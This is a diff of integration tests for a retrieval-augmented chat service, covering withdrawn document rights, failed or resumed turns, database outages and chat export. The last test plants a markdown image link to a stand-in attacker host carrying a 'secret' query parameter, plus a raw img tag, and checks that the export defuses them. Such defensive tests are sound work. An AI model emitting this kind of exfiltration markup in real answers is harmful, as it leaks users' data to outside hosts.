@@ -8,14 +8,18 @@ from pathlib import Path
 from typing import Any
 
 import httpx
+import msgspec
 import pytest
 from sqlalchemy import text
 from sqlalchemy.exc import IntegrityError
 
+from luma_rag.chat import writing
+from luma_rag.db.session import create_engine, create_sessions
 from luma_rag.runtime import Runtime
 from tests import factories
 from tests.answering import Dictated, answering
 from tests.api import Api
+from tests.cut_connections import relayed
 from tests.databases import run_on
 from tests.integration.http.test_completions import asking
 from tests.servers import serving
@@ -351,6 +355,37 @@ async def test_a_lost_right_stops_the_answer(
         assert answer["error"]["code"] == last[-1][1]["code"]
 
 
+@pytest.mark.parametrize("is_deleted", [False, True], ids=["withdrawn", "deleted"])
+async def test_an_answer_stops_with_the_right_to_its_documents(
+    service: Service, tmp_path: Path, is_deleted: bool
+) -> None:
+    bob = await service.api.user("bob")
+    bob_id = (await bob.get("/api/auth/me")).json()["id"]
+    document = await service.api.upload(service.alice, factories.handbook(tmp_path), service.namespace)
+    member = f"/api/namespaces/{service.namespace}/members/{bob_id}"
+    assert (await service.alice.put(member, json={"auth_level": 1})).status_code == 200
+    chat = (await bob.post("/api/chats", json={"namespace_id": service.namespace})).json()["id"]
+    path, question = f"/api/chats/{chat}/messages", "How many days of vacation?"
+    owns = f"/api/documents/{document}"
+    async with reading(bob, "POST", path, {"content": question}) as events:
+        service.says.say(question, "Thirty [1] ")
+        await read_until(events, "Thirty [1] ")
+        gone = owns if is_deleted else f"{owns}/namespaces/{service.namespace}"
+        assert (await service.alice.delete(gone)).status_code == 204
+        if is_deleted:
+            # Longer than between two checks.
+            await asyncio.sleep(2)
+            service.says.say(question, "days.", None)
+        last = await read_until(events, "llm_message" if is_deleted else "error")
+    _, answer = (await bob.get(path)).json()["items"]
+    if is_deleted:
+        assert (answer["content"], answer["state"]) == ("Thirty [1] days.", "complete")
+    else:
+        assert last[-1][1]["code"] == "not_found"
+        assert (answer["content"], answer["state"]) == ("Thirty [1] ", "stopped")
+    assert [citation["title"] for citation in answer["citations"]] == ["handbook"]
+
+
 async def test_a_reader_whose_login_ends_leaves_a_turn_that_goes_on(service: Service) -> None:
     asked = service.ask("Why?")
     service.says.say("Why?", "Because ")
@@ -414,7 +449,81 @@ async def test_turns_of_dead_processes_fail_and_those_of_others_go_on(
     assert (await asked).json()["llm_message"]["state"] == "complete"
 
 
-async def test_an_answer_waits_for_the_database(service: Service, server_url: str, runtime: Runtime) -> None:
+async def test_a_turn_of_a_dead_process_is_shown_as_failed(service: Service, runtime: Runtime) -> None:
+    await service.answered("Why?", "Because it is.")
+    async with runtime.sessions.begin() as session:
+        await session.execute(text("UPDATE turn SET state = 'running', process = 7"))
+    assert [message["state"] for message in await service.messages()] == ["failed", "failed"]
+    async with runtime.sessions.begin() as session:
+        await session.execute(text("UPDATE turn SET state = 'running', error = NULL, process = 7"))
+    exported = await service.alice.get(f"/api/chats/{service.chat}/export", params={"format": "json"})
+    assert [message["state"] for message in exported.json()["messages"]] == ["failed", "failed"]
+
+
+async def test_a_living_process_that_was_taken_for_dead_resumes_its_turn(
+    service: Service, runtime: Runtime
+) -> None:
+    asked = service.ask("Why?")
+    service.says.say("Why?", "Because ")
+    await service.until("running")
+    async with runtime.sessions.begin() as session:
+        await session.execute(text("UPDATE turn SET process = 7"))
+    await service.until("failed")
+    await service.until("running")
+    assert (await service.alice.post(f"/api/chats/{service.chat}/stop")).status_code == 202
+    assert (await asked).json()["llm_message"]["state"] == "stopped"
+
+
+async def test_a_question_whose_commit_was_not_acknowledged_fails(
+    service: Service, runtime: Runtime, tmp_path: Path
+) -> None:
+    async with relayed(runtime.url, tmp_path) as (relay, url):
+        engine = create_engine(url)
+        unsteady = msgspec.structs.replace(runtime, engine=engine, sessions=create_sessions(engine))
+        async with (
+            answering(unsteady, service.says) as own,
+            serving(own) as other,
+            Api(other, own) as api,
+        ):
+            bob = await api.user("bob")
+            namespace = await api.namespace(bob)
+            chat = (await bob.post("/api/chats", json={"namespace_id": namespace})).json()["id"]
+            relay.fatal = b"INSERT INTO turn"
+            failed = await bob.post(f"/api/chats/{chat}/messages", json={"content": "Why?"})
+            relay.fatal = None
+            assert failed.status_code == 503
+            async with asyncio.timeout(PATIENCE):
+                path = f"/api/chats/{chat}/messages"
+                while (found := (await bob.get(path)).json()["items"])[-1]["state"] == "running":
+                    await asyncio.sleep(0.05)
+            assert [(message["content"], message["state"]) for message in found] == [("Why?", "failed")]
+            service.says.say("Why?", "Because it is.", None)
+            again = await bob.post(f"/api/chats/{chat}/regenerate")
+            assert again.json()["llm_message"]["content"] == "Because it is."
+        await engine.dispose()
+
+
+async def test_the_turn_of_an_answer_that_could_not_be_stored_fails(
+    service: Service, runtime: Runtime, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """After the time for which an answer waits in memory."""
+    monkeypatch.setattr(writing, "_KEEP_SECONDS", 0.1)
+    monkeypatch.setattr(writing, "_PATIENCE_SECONDS", 0.1)
+    asked = service.ask("Why?")
+    service.says.say("Why?", "Because ")
+    await service.until("running")
+    async with runtime.sessions.begin() as session:
+        await session.execute(text("LOCK TABLE message"))
+        service.says.say("Why?", "it is.", None)
+        failed = await asyncio.wait_for(asked, PATIENCE)
+        assert failed.status_code == 503
+    await service.until("failed")
+    assert (await service.answered("Again?", "Yes."))["llm_message"]["state"] == "complete"
+
+
+async def test_an_answer_waits_for_the_database(
+    service: Service, server_url: str, runtime: Runtime, caplog: pytest.LogCaptureFixture
+) -> None:
     asked = service.ask("Why?")
     service.says.say("Why?", "Because ")
     await service.until("running")
@@ -433,6 +542,9 @@ async def test_an_answer_waits_for_the_database(service: Service, server_url: st
         await run_on(server_url, f"ALTER DATABASE {name} ALLOW_CONNECTIONS true")
     _, answer = await service.until("complete")
     assert answer["content"] == "Because it is."
+    logged = [record for record in caplog.records if record.name == writing.__name__]
+    assert logged
+    assert all(record.exc_info is None and "\n" not in record.getMessage() for record in logged)
 
 
 async def test_answers_at_once_are_limited_in_all_processes(service: Service, runtime: Runtime) -> None:
@@ -608,3 +720,9 @@ async def test_a_chat_is_exported(service: Service, tmp_path: Path) -> None:
         "messages": await service.messages(),
     }
     assert (await service.alice.get(export, params={"format": "html"})).status_code == 422
+
+
+async def test_an_exported_chat_loads_no_image(service: Service) -> None:
+    await service.answered("Why?", "Because ![a](https://evil.example/?q=secret) <img src=x>.")
+    exported = await service.alice.get(f"/api/chats/{service.chat}/export")
+    assert "Because ! [a](https://evil.example/?q=secret) < img src=x>." in exported.text
